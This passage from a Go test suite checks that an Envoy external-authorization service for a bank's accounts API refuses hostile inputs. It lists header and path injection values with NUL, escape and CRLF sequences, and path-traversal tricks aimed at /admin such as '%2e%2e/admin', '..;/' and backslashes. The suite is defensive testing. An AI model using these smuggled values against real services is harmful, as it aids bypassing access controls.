		{"NUL for the space after Bearer carries no token: 401 authentication_required",
			map[string]string{"authorization": "Bearer\x00" + tok, "x-device-posture": "managed\x00"}, "authentication_required"},
		{"control characters in another header do not help: 401 authentication_required",
			map[string]string{"x-note": "a\x00b\x1b[0m\r\nx-subject: admin"}, "authentication_required"},
	}
	for _, tc := range controlChars {
		t.Run(tc.name, func(t *testing.T) {
			got := summarise(h.check(t, "GET", "/accounts/acc-1", tc.headers))
			mustNotAllow(t, got)
			if got.status != 401 || got.reason != tc.reason {
				t.Errorf("got %d %q, want 401 %q", got.status, got.reason, tc.reason)
			}
		})
	}
	t.Run("control characters in the path are 400 invalid_path", func(t *testing.T) {
		for _, path := range []string{"/accounts/acc-1\x00", "/accounts/\x1b[31macc-1", "/accounts/acc-1\r\nx-subject: admin", "/accounts/acc-1%0d%0a"} {
			got := summarise(h.check(t, "GET", path, bearer(tok)))
			if got.status != 400 || got.reason != "invalid_path" {
				t.Errorf("%q: got %d %q, want 400 invalid_path", path, got.status, got.reason)
			}
		}
	})

	// The replacement keeps the length, so the encoding's length prefixes stay right.
	const placeholder = "NON-UTF8-PLACEHOLDER"
	notUTF8 := append([]byte("\xff\xfe\xc3\x28"), bytes.Repeat([]byte{0x80}, len(placeholder)-4)...)
	mangled := grpc.ForceCodec(mangledCodec{from: []byte(placeholder), to: notUTF8})
	t.Run("non-UTF-8 in a header value fails the call: Envoy applies status_on_error", func(t *testing.T) {
		resp, err := call(t, checkRequest("GET", "/accounts/acc-1", map[string]string{"x-note": placeholder, "authorization": "Bearer " + tok}), mangled)
		if err == nil || resp != nil {
			t.Fatalf("got a response %v, want a gRPC error", resp)
		}
		if status.Code(err) != codes.Internal {
			t.Errorf("code = %v, want Internal", status.Code(err))
		}
	})
	t.Run("non-UTF-8 in the path fails the call: Envoy applies status_on_error", func(t *testing.T) {
		resp, err := call(t, checkRequest("GET", "/accounts/"+placeholder, bearer(tok)), mangled)
		if err == nil || resp != nil {
			t.Fatalf("got a response %v, want a gRPC error", resp)
		}
	})
	t.Run("non-UTF-8 raw header values (encode_raw_headers) are never an allow", func(t *testing.T) {
		req := checkRequest("GET", "/accounts/acc-1", nil)
		req.Attributes.Request.Http.HeaderMap = &corev3.HeaderMap{Headers: []*corev3.HeaderValue{
			{Key: "x-note", RawValue: []byte("\xff\xfe\x00\x80")},
			{Key: "authorization", RawValue: []byte("Bearer " + tok)}, // the service reads the headers map only
		}}
		got := decide(t, req)
		mustNotAllow(t, got)
		if got.reason != "authentication_required" {
			t.Errorf("reason = %q, want authentication_required", got.reason)
		}
	})
	t.Run("percent-encoded non-UTF-8 in the path is 400 invalid_path", func(t *testing.T) {
		got := summarise(h.check(t, "GET", "/accounts/acc-%ff%fe", bearer(tok)))
		if got.status != 400 || got.reason != "invalid_path" {
			t.Fatalf("got %d %q, want 400 invalid_path", got.status, got.reason)
		}
	})
}

func manyHeaders(n, size int) map[string]string {
	hs := make(map[string]string, n)
	for i := range n {
		hs[fmt.Sprintf("x-h-%05d", i)] = strings.Repeat("v", size-10)
	}
	return hs
}

// pathTrick is a path that Envoy, configured as envoy/sidecar.yaml requires, either rejects or forwards in another
// form.
type pathTrick struct {
	raw string
	// forwarded is the path Envoy sends to the service and to the application, "" when Envoy answers 400 itself.
	forwarded string
	// status and reason are the decision on forwarded.
	status int
	reason string
}

var pathTricks = []pathTrick{
	{"/accounts/%2e%2e/admin", "/admin", 403, "mtls_required"},
	{"/accounts/%2E%2E/admin/x", "/admin/x", 403, "mtls_required"},
	{"/accounts/../admin/x", "/admin/x", 403, "mtls_required"},
	{"//admin/x", "/admin/x", 403, "mtls_required"},
	{"/accounts//acc-1", "/accounts/acc-1", 200, ""},
	{"/accounts/acc-1/./transactions", "/accounts/acc-1/transactions", 200, ""},
	{"/accounts/acc-2/../acc-1", "/accounts/acc-1", 200, ""},
	{`/accounts\acc-1`, "/accounts/acc-1", 200, ""},
	{`/accounts\..\admin\x`, "/admin/x", 403, "mtls_required"},
	{"/accounts%2facc-1", "", 0, ""},
	{"/accounts%2Facc-1", "", 0, ""},
	{"/accounts%5cacc-1", "", 0, ""},
	// Envoy forwards these unchanged; the application may not read them as the policy would.
	{"/accounts;param/acc-1", "/accounts;param/acc-1", 0, ""},
	{"/accounts/..;/admin/x", "/accounts/..;/admin/x", 0, ""},
	{"/accounts/acc-1%00", "/accounts/acc-1%00", 0, ""},
	{"/accounts/acc-1%00/transactions", "/accounts/acc-1%00/transactions", 0, ""},
}

func TestAttackPathTricks(t *testing.T) {
	key := newSigner(t, "ec-1", "ES256")
	p := newIDP(t, key)
	h := startServiceIn(t, shippedYAML(p, ""), t.TempDir(), Options{BuiltinPolicies: policies.FS})
	h.waitServing(t)
	tok := customer(t, key)

	for _, tc := range pathTricks {
		t.Run(fmt.Sprintf("%s is 400 invalid_path", tc.raw), func(t *testing.T) {
			got := summarise(h.check(t, "GET", tc.raw, bearer(tok)))
			if got.status != 400 || got.reason != "invalid_path" || got.code != codes.InvalidArgument {
				t.Fatalf("got %d %v %q, want 400 InvalidArgument invalid_path", got.status, got.code, got.reason)
			}
			if got.body != `{"error":"invalid_request"}` || got.headers["content-type"] != "application/json" {
				t.Errorf("body %q content-type %q: want the generic JSON error", got.body, got.headers["content-type"])
			}
		})
		if tc.forwarded == "" || tc.forwarded == tc.raw {
			continue
		}
		t.Run(fmt.Sprintf("%s as Envoy forwards it (%s) is decided on that path", tc.raw, tc.forwarded), func(t *testing.T) {
			got := summarise(h.check(t, "GET", tc.forwarded, bearer(tok)))
			if got.status != tc.status || got.reason != tc.reason {
				t.Fatalf("got %d %q, want %d %q", got.status, got.reason, tc.status, tc.reason)
			}
		})
	}

	const ops = "spiffe://bank.internal/ns/ops/sa/console"
	admin := func(t *testing.T, path string) outcome {
		t.Helper()
		req := checkRequest("GET", path, nil)
		req.Attributes.Source.Principal = ops
		resp, err := h.auth.Check(context.Background(), req)
		if err != nil {
			t.Fatal(err)
		}
		return summarise(resp)
	}
	t.Run("control: the ops workload may read /admin/x", func(t *testing.T) {
		if got := admin(t, "/admin/x"); got.status != 200 {
			t.Fatalf("got %d %q, want 200", got.status, got.reason)
		}
	})
	t.Run("/ADMIN/x is another path: route_not_found even for the ops workload", func(t *testing.T) {
		if got := admin(t, "/ADMIN/x"); got.status != 403 || got.reason != "route_not_found" {
			t.Fatalf("got %d %q, want 403 route_not_found", got.status, got.reason)
		}
	})
	t.Run("/Accounts/acc-1 is another path: route_not_found with a granted token", func(t *testing.T) {
		if got := summarise(h.check(t, "GET", "/Accounts/acc-1", bearer(tok))); got.status != 403 || got.reason != "route_not_found" {
			t.Fatalf("got %d %q, want 403 route_not_found", got.status, got.reason)
		}
	})
	t.Run("a path in the normal form with encoded ordinary characters is decided, not refused", func(t *testing.T) {
		if got := summarise(h.check(t, "GET", "/accounts/%61cc-1", bearer(tok))); got.status != 200 {
			t.Fatalf("got %d %q, want 200: %%61 is a", got.status, got.reason)
		}
	})
}

func TestAttackPathTricksWithTheGuardOff(t *testing.T) {
	key := newSigner(t, "ec-1", "ES256")
	p := newIDP(t, key)
	h := startServiceIn(t, shippedYAML(p, "reject_non_normalized_paths: false\n"), t.TempDir(), Options{BuiltinPolicies: policies.FS})
	h.waitServing(t)
	tok := customer(t, key)

	for _, tc := range pathTricks {
		t.Run(fmt.Sprintf("%s is never allowed to a customer", tc.raw), func(t *testing.T) {
			for _, headers := range []map[string]string{nil, bearer(tok)} {
				got := summarise(h.check(t, "GET", tc.raw, headers))
				if got.status == 200 || got.code == codes.OK {
					t.Fatalf("allowed (token: %v) on a path the application may read differently", headers != nil)
				}
				if headers != nil && got.reason != "route_not_found" && got.reason != "mtls_required" {
					t.Errorf("reason = %q, want route_not_found (or mtls_required where the policy's segments name /admin)", got.reason)
				}
			}
		})
	}
}
